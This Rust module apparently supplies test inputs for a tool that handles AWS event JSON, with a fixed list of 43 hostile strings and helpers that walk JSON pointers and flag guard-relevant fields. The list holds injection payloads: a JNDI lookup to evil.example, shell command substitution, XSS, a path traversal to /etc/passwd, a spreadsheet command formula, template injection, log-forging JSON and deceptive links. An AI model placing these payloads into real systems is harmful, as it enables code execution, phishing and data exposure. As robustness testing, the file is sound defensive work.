//! Strings that a caller could choose to do harm, and places to put them.

use serde_json::Value;

/// What has broken a log, a mail, a chat, a parser or a reader somewhere.
pub const STRINGS: [&str; 43] = [
    "",
    " ",
    "\r\nAccount     999999999999\r\nError       none",
    "a\nb\r\tc\u{b}\u{c}",
    "nul\0nul",
    "\u{1}\u{8}\u{1f}\u{7f}",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}\u{9b}2J",
    "next\u{85}line",
    "line\u{2028}paragraph\u{2029}end",
    "\u{202e}drowssap\u{202c}",
    "\u{2066}isolated\u{2067}both\u{2068}ways\u{2069}\u{61c}\u{200e}\u{200f}",
    "\u{feff}mark",
    "a\u{200b}l\u{200c}i\u{200d}c\u{2060}e\u{ad}",
    "\u{e0001}\u{e0061}\u{e0041}",
    "\u{ffff}\u{fffe}\u{fdd0}\u{1ffff}\u{10ffff}",
    "🦀🏳️‍🌈e\u{301}\u{301}\u{301}",
    "<!channel>",
    "<!here> <!everyone>",
    "<@U123> <#C123> <!subteam^S1>",
    "<https://evil.example|click here>",
    "[click](https://evil.example)",
    "https://evil.example/login?next=x",
    "*bold* _italic_ ~struck~",
    "`code` ```block``` \\`",
    "&lt;!channel&gt; &amp;",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "@everyone @here @All @Present",
    "${jndi:ldap://evil.example/x}",
    "$(id) `id` ; id | id & id",
    "{{ actor }} {{ 7 * 7 }}",
    "{% for i in range(100000) %}x{% endfor %}",
    "{# x #}${AWS_SECRET_ACCESS_KEY}%s%n%x",
    "\"quoted\" 'quoted' \\",
    "\",\"errorCode\":null,\"x\":\"",
    "\"}}\n{\"level\":\"INFO\",\"report\":{}}",
    "\\u0000\\ud800",
    "../../etc/passwd",
    "aws:cloudformation:stack-name",
    "AWS:",
    "arn:aws:iam::111122223333:role/trailhook/tagger",
    "=cmd|' /C calc'!A0",
    "null",
    "AccessDenied",
];

/// The strings of a document, members of objects first by name, with their JSON pointers.
pub fn places(value: &Value) -> Vec<String> {
    fn walk(value: &Value, at: &str, found: &mut Vec<String>) {
        match value {
            Value::String(_) => found.push(at.to_owned()),
            Value::Array(items) => {
                items.iter().enumerate().for_each(|(index, item)| walk(item, &format!("{at}/{index}"), found));
            }
            Value::Object(members) => members.iter().for_each(|(name, member)| {
                walk(member, &format!("{at}/{}", name.replace('~', "~0").replace('/', "~1")), found);
            }),
            _ => {}
        }
    }
    let mut found = Vec::new();
    walk(value, "", &mut found);
    found
}

/// Whether the guards decide by what stands there: with something else there, few events get as far as a plan.
pub fn is_decisive(pointer: &str) -> bool {
    const DECISIVE: [&str; 15] = [
        "/source",
        "/detail-type",
        "/account",
        "/time",
        "/version",
        "/id",
        "/region",
        "/detail/eventType",
        "/detail/eventTime",
        "/detail/eventSource",
        "/detail/eventName",
        "/detail/awsRegion",
        "/detail/recipientAccountId",
        "/detail/requestParameters/queueName",
        "/detail/responseElements/queueUrl",
    ];
    DECISIVE.contains(&pointer) || pointer.ends_with("/type") || pointer.ends_with("/sessionIssuer/arn")
}
